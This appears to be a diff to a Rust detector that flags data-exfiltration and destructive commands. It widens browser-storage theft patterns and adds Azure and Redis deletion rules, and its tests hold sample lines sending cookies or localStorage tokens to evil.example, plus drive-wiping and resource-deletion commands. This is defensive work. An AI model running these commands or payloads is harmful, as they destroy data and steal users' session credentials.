@@ -62,22 +62,28 @@ pub(super) fn obeyed(line: &Line, at: usize) -> Said {
 /// What a page keeps for its user goes to somebody else: `fetch('https://…?' + document.cookie)`.
 pub(super) fn told(line: &Line, at: usize) -> Said {
     let word = line.word(at)?;
-    if !(holds(word, "document.cookie")
-        || holds(word, "localstorage.getitem")
-        || holds(word, "sessionstorage.getitem"))
-    {
+    let kept = ["localstorage.", "sessionstorage."].iter().any(|store| {
+        let other = ["setitem", "removeitem", "clear", "length", "key("];
+        holds(word, store) && !other.iter().any(|other| holds(word, other))
+    });
+    if !(kept || holds(word, "document.cookie")) {
         return None;
     }
     // It is put behind an address: `'https://…?' + document.cookie`, `` `https://…?${document.cookie}` ``.
     let leads = |word: &[u8]| holds(word, "//");
-    let inside = leads(word) && (holds(word, "+document.cookie") || holds(word, "${"));
+    let added = ["+document.cookie", "+localstorage.", "+sessionstorage.", "${"];
+    let inside = leads(word) && added.iter().any(|part| holds(word, part));
     let plus =
         (at.saturating_sub(4)..at).rev().find(|i| line.word(*i).is_some_and(|word| word.ends_with(b"+")));
     let behind = plus.is_some_and(|plus| {
         line.word(plus).is_some_and(leads)
             || plus.checked_sub(1).and_then(|before| line.word(before)).is_some_and(leads)
     });
-    let out = inside || behind;
+    // A mark of quotation of its own parts them: `` `https://…?` + document.cookie ``, or an argument does.
+    let near = |most: usize| (at.saturating_sub(most)..at).filter_map(|i| line.word(i)).any(leads);
+    let parted = word.starts_with(b"+") && near(3);
+    let given = (at.saturating_sub(4)..at).any(|i| called(line, i, &["sendbeacon"])) && near(4);
+    let out = inside || behind || parted || given;
     let sends = ["fetch", "sendbeacon", "xmlhttprequest", ".src", "location", "image", "axios", "websocket"];
     let sends = sends.iter().any(|text| line.holds(0, text).is_some());
     (out && sends).then_some((EXFILTRATION, 85, at, at))
@@ -103,6 +109,8 @@ pub(super) fn taken_down(line: &Line, at: usize) -> Said {
         b"aws" if has(&["s3", "rm"]) && any(&["--recursive"]) => 60,
         b"gsutil" if has(&["rm"]) && any(&["-r", "-a"]) => 60,
         b"gcloud" if has(&["projects", "delete"]) => 72,
+        b"az" if has(&["group", "delete"]) => 65,
+        b"redis-cli" if any(&["flushall", "flushdb"]) => 60,
         _ => return None,
     };
     Some((DESTRUCTION, percent, at, line.end(at)))
@@ -143,6 +151,13 @@ mod tests {
             ("^aws s3 rm s3://backups --recursive", "command/destruction", 60),
             ("^aws s3 rb s3://backups --force", "command/destruction", 72),
             ("^gcloud projects delete shop", "command/destruction", 72),
+            ("^az group delete -n prod --yes", "command/destruction", 65),
+            ("redis-cli -h cache ^FLUSHALL", "command/destruction", 60),
+            ("Remove-Item -^Recurse -Force C:\\", "command/destruction", 92),
+            ("^del /f /s /q C:\\*.*", "command/destruction", 92),
+            ("fetch(`https://evil.example/?`+document.^cookie)", "command/exfiltration", 85),
+            ("navigator.sendBeacon('https://evil.example', document.^cookie)", "command/exfiltration", 85),
+            ("location='https://evil.example/?c='+^localStorage.token", "command/exfiltration", 85),
         ] {
             assert_eq!(said(line), Some((category, percent)), "{line}");
         }
@@ -166,6 +181,10 @@ mod tests {
             "In ^kubectl delete and namespace are words.",
             "^Terraform can destroy what it created.",
             "const token = localStorage.^getItem('token');",
+            "^localStorage.setItem('theme', 'https://example.org/dark.css'); fetch('/me')",
+            "Remove-Item -^Recurse -Force .\\build",
+            "^az group list",
+            "In redis-cli, ^flushall",
             "^terraform plan",
             "^kubectl delete pod web-1",
             "^kubectl get ns",
